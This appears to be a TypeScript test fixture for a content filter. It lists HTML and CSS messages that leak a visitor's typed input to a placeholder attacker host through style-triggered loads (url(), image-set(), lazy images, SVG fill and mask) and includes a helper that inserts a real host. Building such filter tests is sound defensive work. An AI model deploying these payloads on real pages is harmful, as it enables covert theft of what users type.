/*
 * Messages that leak what a visitor types to an attacker's host, without script. HOST stands for that host. The typed text goes
 * into the first text field and matches its pattern.
 */

/** A message, and the names of its two parts in the refusal. */
export type LeakPayload = readonly [html: string, css: string, loads: string, typed: string];

const field = `<input pattern="4.*" required>`;
const form = `<form data-form="lead">${field}</form>`;
const text = `${field}<p>x</p>`;
// Excludes the field that the script adds to forms.
const seen = "[required]:valid";

/** In Chromium, these load once something is typed. */
export const leaking: readonly LeakPayload[] = [
  [field, `${seen} { background: url(HOST/1) }`, "url(", "<input>"],
  [form, `${seen} { background: url("HOST/1") }`, "url()", "<form>"],
  [field, `${seen} { background: U\\52L(HOST/1) }`, "U\\52L(", "<input>"],
  [field, `${seen} { background: image-set("HOST/1" 1x) }`, "image-set()", "<input>"],
  [field, `${seen} { background: -webkit-image-set(url(HOST/1) 1x) }`, "image-set()", "<input>"],
  [field, `${seen} { --a: url(HOST/1); background: var(--a) }`, "url(", "<input>"],
  [field, `${seen} { list-style: url(HOST/1); display: list-item }`, "url(", "<input>"],
  [text, `${seen} ~ p::before { content: url(HOST/1) }`, "url(", "<input>"],
  [text, `${seen} ~ p { border-image: url(HOST/1) 1 }`, "url(", "<input>"],
  [text, `${seen} ~ p { mask-image: url(HOST/1) }`, "url(", "<input>"],
  [
    `<textarea required></textarea><p>x</p>`,
    `:valid + p { background: url(HOST/1) }`,
    "url(",
    "<textarea>",
  ],
  [
    `<div contenteditable>.</div><p>x</p>`,
    `div:focus + p { background: url(HOST/1) }`,
    "url(",
    "contenteditable",
  ],
  // Loaded elsewhere; the style sheet only shows it.
  [
    `${field}<p style="--a: url(HOST/1)">x</p>`,
    `${seen} + p { background: var(--a) }`,
    "url(",
    "<input>",
  ],
  [
    `${field}<p style="display: none; background: url(HOST/1)">x</p>`,
    `${seen} + p { display: block !important }`,
    "url(",
    "<input>",
  ],
  [
    `${field}<img loading="lazy" src="HOST/1">`,
    `input:invalid + img { display: none }`,
    "the attribute loading",
    "<input>",
  ],
  [
    `${field}<img loading="LAZY" sizes="auto" srcset="HOST/1 1w">`,
    `input:invalid + img { display: none }`,
    "the attribute loading",
    "<input>",
  ],
  [
    `${field}<table background="HOST/1"><tr><td>x</td></tr></table>`,
    `input:invalid + * { display: none }`,
    "the attribute background",
    "<input>",
  ],
  // Text that grows moves the image into view, without a style sheet.
  [
    `<div style="overflow: clip; font-size: 60px"><div style="display: inline-block; position: relative"><span contenteditable>.</span><img loading="lazy" src="HOST/1" width="20" height="20" style="position: absolute; left: calc(100% - 45px)"></div></div>`,
    "",
    "the attribute loading",
    "contenteditable",
  ],
  [
    `${field}<svg><rect fill="url(HOST/1#a)" width="9" height="9" /></svg>`,
    `input:invalid + svg { display: none }`,
    "url(",
    "<input>",
  ],
  [
    `${field}<svg><rect mask="url(HOST/1#a)" width="9" height="9" /></svg>`,
    `input:invalid + svg { display: none }`,
    "url(",
    "<input>",
  ],
];

/** These load in other browsers or with another script's help. They are refused too. */
export const suspected: readonly LeakPayload[] = [
  [
    `<select><option>a</option></select>`,
    `option:checked { background: url(HOST/1) }`,
    "url(",
    "<select>",
  ],
  [`<form><button>Go</button></form>`, `form:valid { background: url(HOST/1) }`, "url(", "<form>"],
  [
    `<input type="hidden" name="email">`,
    `[value^=a] ~ p { background: url(HOST/1) }`,
    "url(",
    "<input>",
  ],
  [`<input type="checkbox">`, `:checked { cursor: url(HOST/1), auto }`, "url(", "<input>"],
  [
    `<svg><foreignObject><INPUT></svg>`,
    `:valid { background: image("HOST/1") }`,
    "image()",
    "<input>",
  ],
  [`<!-- ><input> -->`, `:valid { background: url(HOST/1) }`, "url(", "<input>"],
  [
    `<p contenteditable="plaintext-only">x</p>`,
    `p:empty { background: url(HOST/1) }`,
    "url(",
    "contenteditable",
  ],
  [
    `<p>x</p>`,
    `p { -webkit-user-modify: read-write } p:focus { background: url(HOST/1) }`,
    "url(",
    "-webkit-user-modify",
  ],
  [
    `<p>x</p>`,
    `:host-context([data-email^=a]) p { background: url(HOST/1) }`,
    "url(",
    ":host-context()",
  ],
  // The close button is there without any HTML.
  [
    "",
    `:host-context([data-email^=a]) button { background: url(HOST/1) }`,
    "url(",
    ":host-context()",
  ],
  [`<form style="background: url(HOST/1)"></form>`, "", "url(", "<form>"],
];

/** Puts the attacker's host in place of HOST. */
export function withHost([html, css]: LeakPayload, host: string) {
  return { htmlContent: html.replaceAll("HOST", host), cssContent: css.replaceAll("HOST", host) };
}
